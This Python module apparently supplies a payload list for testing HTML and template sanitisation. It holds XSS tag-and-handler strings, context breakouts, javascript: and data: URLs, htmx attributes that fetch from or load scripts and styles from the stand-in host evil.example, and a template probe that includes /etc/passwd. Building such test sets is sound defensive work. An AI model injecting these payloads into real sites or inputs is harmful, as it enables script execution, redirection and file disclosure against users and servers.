"""Texts that would run, load or break something if a page took them for HTML, script or template.

Each tries to call alert, to set `window.pwned`, or to ask another host.
"""

from __future__ import annotations

_RUN = "alert(document.domain);window.pwned=1"
_TAGS = (
    "img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror",
    "audio src=x onerror", "details open ontoggle", "input autofocus onfocus",
    "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart",
    "object data=x onerror", "embed src=x onload", "style onload",
    "link rel=stylesheet href=x onerror", "meter onmouseover", "a onclick", "x onclick",
    "form onsubmit", "button autofocus onfocus",
)  # fmt: skip
_BREAKOUTS = ("", "'>", '">', "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "`")
_SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
            "//evil.example/x", "https://evil.example/x")  # fmt: skip
_HTMX = ("hx-get", "hx-post", "data-hx-get", "hx-on:load", "hx-vals", "hx-headers", "hx-swap-oob",
         "hx-ext", "hx-trigger", "hx-boost")  # fmt: skip

PAYLOADS = [
    *(f'<{tag}="{_RUN}">' for tag in _TAGS),
    *(f"{out}<script>{_RUN}</script>" for out in _BREAKOUTS),
    *(f"{out}<script src=//evil.example/x.js></script>" for out in _BREAKOUTS),
    *(f"{out}<img src=//evil.example/{i}.png>" for i, out in enumerate(_BREAKOUTS)),
    *(f'<a href="{url}" id=q autofocus>x</a>' for url in _SCHEMES),
    *(f'<form action="{url}"><button formaction="{url}">x</button></form>' for url in _SCHEMES),
    *(f'<div {name}="https://evil.example/x" hx-trigger="load">x</div>' for name in _HTMX),
    '<div hx-get="/logout" hx-trigger="every 1s">x</div>',
    '<div id="page" hx-swap-oob="true">gone</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img src=`x`onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}{{ config }}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "'; alert(1); '",
    '"; alert(1); "',
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]  # fmt: skip
